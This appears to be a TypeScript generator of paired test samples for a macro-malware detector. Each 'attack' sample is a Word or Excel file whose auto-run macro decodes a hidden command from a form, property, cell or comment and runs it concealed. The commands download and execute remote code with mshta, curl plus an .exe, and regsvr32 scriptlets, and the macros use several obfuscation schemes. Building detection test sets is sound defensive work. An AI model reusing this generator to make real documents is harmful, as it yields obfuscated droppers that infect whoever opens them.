/** Macros that start a program: each trigger with each place for the command, in turn with each way to hide and to start it. */

import { LABEL, powershell, TEXT_BOX } from '../campaigns/common.ts'
import { doc, docm, type OfficePlan, xls, xlsm } from '../campaigns/office.ts'
import type { Pair } from './matrix.ts'

interface Trigger {
  module: string
  head: string
}
const procedure = (module: string, name: string, parameters = ''): Trigger => ({
  module,
  head: `Sub ${name}(${parameters})`,
})

const IN_WORD: readonly Trigger[] = [
  procedure('Module1', 'AutoOpen'),
  procedure('Module1', 'AutoClose'),
  procedure('Module1', 'AutoNew'),
  procedure('Module1', 'AutoExec'),
  procedure('ThisDocument', 'Document_Open'),
  procedure('ThisDocument', 'Document_Close'),
  procedure('ThisDocument', 'Document_New'),
  procedure('ThisDocument', 'TextBox1_Layout'),
  procedure('ThisDocument', 'TextBox1_GotFocus'),
  procedure('ThisDocument', 'InkPicture1_Painted', 'ByVal hDC As Long, ByVal Rect As MSINKAUTLib.IInkRectangle'),
  procedure('ThisDocument', 'Frame1_Layout'),
]
const IN_EXCEL: readonly Trigger[] = [
  procedure('Module1', 'Auto_Open'),
  procedure('Module1', 'Auto_Close'),
  procedure('ThisWorkbook', 'Workbook_Open'),
  procedure('ThisWorkbook', 'Workbook_Activate'),
  procedure('ThisWorkbook', 'Workbook_BeforeClose', 'Cancel As Boolean'),
  procedure('ThisWorkbook', 'Workbook_Deactivate'),
  procedure('ThisWorkbook', 'Workbook_WindowActivate', 'ByVal Wn As Window'),
  procedure('Sheet1', 'Worksheet_Activate'),
  procedure('Sheet1', 'Worksheet_Calculate'),
  procedure('Sheet1', 'TextBox1_Layout'),
  procedure('Sheet1', 'InkPicture1_Painted', 'ByVal hDC As Long, ByVal Rect As MSINKAUTLib.IInkRectangle'),
]

interface Place {
  name: string
  store(text: string): Partial<OfficePlan>
  read: string
}
const FORMS: readonly Place[] = [
  {
    name: 'the caption of a label',
    store: (text) => ({ forms: { UserForm1: [{ name: 'Label1', type: LABEL, caption: text }] } }),
    read: 'UserForm1.Label1.Caption',
  },
  {
    name: 'the tag of a control',
    store: (text) => ({ forms: { UserForm1: [{ name: 'TextBox1', type: TEXT_BOX, tag: text }] } }),
    read: 'UserForm1.TextBox1.Tag',
  },
  {
    name: 'the tip of a control',
    store: (text) => ({ forms: { UserForm1: [{ name: 'Label1', type: LABEL, caption: 'a', tip: text }] } }),
    read: 'UserForm1.Label1.ControlTipText',
  },
  {
    name: 'the text of a box',
    store: (text) => ({ forms: { UserForm1: [{ name: 'TextBox1', type: TEXT_BOX, value: text }] } }),
    read: 'UserForm1.TextBox1.Text',
  },
]
const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`
/** Under 200 characters a literal. */
const literal = (text: string): string => (text.match(/[\s\S]{1,120}/g) ?? []).map(quoted).join(' & ')
const WORD_PLACES: readonly Place[] = [
  ...FORMS,
  { name: 'a variable', store: (text) => ({ variables: { v: text } }), read: 'ActiveDocument.Variables("v").Value' },
  {
    name: 'a property',
    store: (text) => ({ properties: { p: text } }),
    read: 'ActiveDocument.CustomDocumentProperties("p").Value',
  },
  {
    name: 'the comments of the document',
    store: (text) => ({ core: { description: text } }),
    read: 'ActiveDocument.BuiltInDocumentProperties("Comments").Value',
  },
  {
    name: 'a paragraph',
    store: (text) => ({ paragraphs: ['Enable editing.', text] }),
    read: 'ActiveDocument.Paragraphs(2).Range.Text',
  },
  { name: 'a picture', store: (text) => ({ shape: text }), read: 'ActiveDocument.InlineShapes(1).AlternativeText' },
  { name: 'a comment', store: (text) => ({ comment: text }), read: 'ActiveDocument.Comments(1).Range.Text' },
]
const EXCEL_PLACES: readonly Place[] = [
  ...FORMS,
  { name: 'a cell', store: (text) => ({ cells: { B3: text } }), read: 'Sheets("Sheet1").Range("B3").Value' },
  { name: 'a cell by numbers', store: (text) => ({ cells: { AA40: text } }), read: 'Sheets(1).Cells(40, 27)' },
  {
    name: 'a property',
    store: (text) => ({ properties: { p: text } }),
    read: 'ThisWorkbook.CustomDocumentProperties("p").Value',
  },
  {
    name: 'the title',
    store: (text) => ({ core: { title: text } }),
    read: 'ThisWorkbook.BuiltinDocumentProperties("Title").Value',
  },
  { name: 'a shape', store: (text) => ({ shape: text }), read: 'Sheets("Sheet1").Shapes(1).AlternativeText' },
  { name: 'a note', store: (text) => ({ comment: text }), read: 'Sheets("Sheet1").Range("A1").Comment.Text' },
]
/** The old formats hold these as well, as far as the writers know them. */
const isInOld = ({ name }: Place): boolean => /label|control|box|variable|paragraph|cell/.test(name)

interface Disguise {
  name: string
  hide(text: string): string
  /** An expression of the hidden text. */
  show(text: string): string
  more?: string
}
const DISGUISES: readonly Disguise[] = [
  { name: 'as it is', hide: (text) => text, show: (text) => text },
  { name: 'reversed', hide: (text) => [...text].reverse().join(''), show: (text) => `StrReverse(${text})` },
  {
    name: 'with a separator',
    hide: (text) => (text.match(/.{1,3}/g) ?? []).join('#~'),
    show: (text) => `Replace(${text}, "#~", "")`,
  },
  {
    name: 'in pieces',
    hide: (text) => (text.match(/.{1,5}/g) ?? []).join('|'),
    show: (text) => `Join(Split(${text}, "|"), "")`,
  },
  {
    name: 'as digits',
    hide: (text) => Buffer.from(text, 'latin1').toString('hex'),
    show: (text) => `Unhex(${text})`,
    more: 'Function Unhex(t)\nDim i, s\nFor i = 1 To Len(t) Step 2\ns = s & Chr(CLng("&H" & Mid(t, i, 2)))\nNext\nUnhex = s\nEnd Function',
  },
  {
    name: 'moved by one',
    hide: (text) => [...text].map((letter) => String.fromCharCode(letter.charCodeAt(0) + 1)).join(''),
    show: (text) => `Moved(${text})`,
    more: 'Function Moved(t)\nDim i, s\nFor i = 1 To Len(t)\ns = s & Chr(Asc(Mid(t, i, 1)) - 1)\nNext\nMoved = s\nEnd Function',
  },
  {
    name: 'under a key',
    hide: (text) => [...text].map((letter, i) => String((letter.charCodeAt(0) ^ (i % 7)) + 100)).join(','),
    show: (text) => `Keyed(${text})`,
    more: 'Function Keyed(t)\nDim i, s, a\na = Split(t, ",")\nFor i = 0 To UBound(a)\ns = s & Chr((CInt(a(i)) - 100) Xor (i Mod 7))\nNext\nKeyed = s\nEnd Function',
  },
  {
    name: 'between other letters',
    hide: (text) => [...text].map((letter) => `${letter}q`).join(''),
    show: (text) => `Every(${text})`,
    more: 'Function Every(t)\nDim i, s\nFor i = 1 To Len(t) Step 2\ns = s & Mid(t, i, 1)\nNext\nEvery = s\nEnd Function',
  },
]

const STARTS: readonly (readonly [name: string, start: (command: string) => string])[] = [
  ['Shell', (command) => `Shell ${command}, vbHide`],
  ['the shell of scripts', (command) => `CreateObject("WScript.Shell").Run ${command}, 0, False`],
  [
    'the management of Windows',
    (command) =>
      `Dim w, p\nSet w = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")\nw.Create ${command}, Null, Null, p`,
  ],
  [
    'the Explorer',
    (command) =>
      `Dim c\nc = ${command}\nCreateObject("Shell.Application").ShellExecute Split(c, " ")(0), Mid(c, InStr(c, " ") + 1), "", "open", 0`,
  ],
  ['a member by its name', (command) => `CallByName CreateObject("WScript.Shell"), "Run", VbMethod, ${command}, 0`],
  ['a class by its number', (command) => `GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}").Exec ${command}`],
  ['a hidden name of the shell', (command) => `CreateObject("WS" & "cript.Sh" & "ell").Run ${command}, 0`],
]

const COMMANDS = [
  powershell,
  (i: number): string => `mshta http://192.0.2.${i + 1}/a`,
  (i: number): string => `cmd /c curl -s http://192.0.2.${i + 1}/a -o %TEMP%\\a.exe & %TEMP%\\a.exe`,
  (i: number): string => `regsvr32 /s /n /u /i:http://192.0.2.${i + 1}/a.sct scrobj.dll`,
]

type Writer = (plan: OfficePlan) => Buffer

function pairOf(i: number, trigger: Trigger, place: Place | null, show: string, write: Writer): Pair {
  const disguise = DISGUISES[i % DISGUISES.length] as Disguise
  const [started, start] = STARTS[Math.floor(i / 3) % STARTS.length] as (typeof STARTS)[number]
  const command = COMMANDS[i % COMMANDS.length]?.(i % 200) ?? ''
  const plan = (text: string, act: (expression: string) => string): OfficePlan => {
    const hidden = disguise.hide(text)
    const read = place === null ? literal(hidden) : place.read
    const source = `${trigger.head}\nDim t\nt = ${disguise.show(read)}\n${act('t')}\nEnd Sub\n${disguise.more ?? ''}`
    return {
      modules: { ...EMPTY[write === docm || write === doc ? 'word' : 'excel'], [trigger.module]: source },
      ...place?.store(hidden),
    }
  }
  const name = `${trigger.head.replace(/^Sub |\(.*$/g, '')}, ${place?.name ?? 'the code'}, ${disguise.name}, by ${started}, in ${write.name}`
  return {
    name,
    attack: write(plan(command, start)),
    harmless: write(plan('The report of this month is ready to be printed.', (text) => `${show} = ${text}`)),
  }
}

const EMPTY = {
  word: { ThisDocument: '' },
  excel: { ThisWorkbook: '', Sheet1: '' },
} as const

function table(
  triggers: readonly Trigger[],
  places: readonly Place[],
  show: string,
  writers: readonly Writer[],
): Pair[] {
  const pairs: Pair[] = []
  for (const trigger of triggers)
    for (const place of [null, ...places])
      for (const [at, write] of writers.entries())
        if (at === 0 || place === null || isInOld(place)) pairs.push(pairOf(pairs.length, trigger, place, show, write))
  return pairs
}

export const MACROS: Readonly<Record<string, readonly Pair[]>> = {
  'macros of Word': table(IN_WORD, WORD_PLACES, 'ActiveDocument.Bookmarks("a").Range.Text', [docm, doc]),
  'macros of Excel': table(IN_EXCEL, EXCEL_PLACES, 'Sheets("Sheet1").Range("C1").Value', [xlsm, xls]),
}
